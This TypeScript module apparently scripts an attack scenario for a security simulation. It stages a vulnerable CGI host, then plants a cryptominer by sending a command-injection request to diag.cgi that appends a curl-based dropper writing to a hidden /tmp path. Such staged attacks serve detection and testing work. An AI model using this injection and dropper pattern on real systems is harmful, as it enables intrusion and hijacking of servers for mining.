// The request is on record, and the miner runs below fcgiwrap as www-data.
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  vulnerableCgi(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.www/httpd2', fetch: 'curl' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  await stage.http('203.0.113.51', `/cgi-bin/diag.cgi?host=127.0.0.1;${line.replaceAll(' ', '+')}`)
}
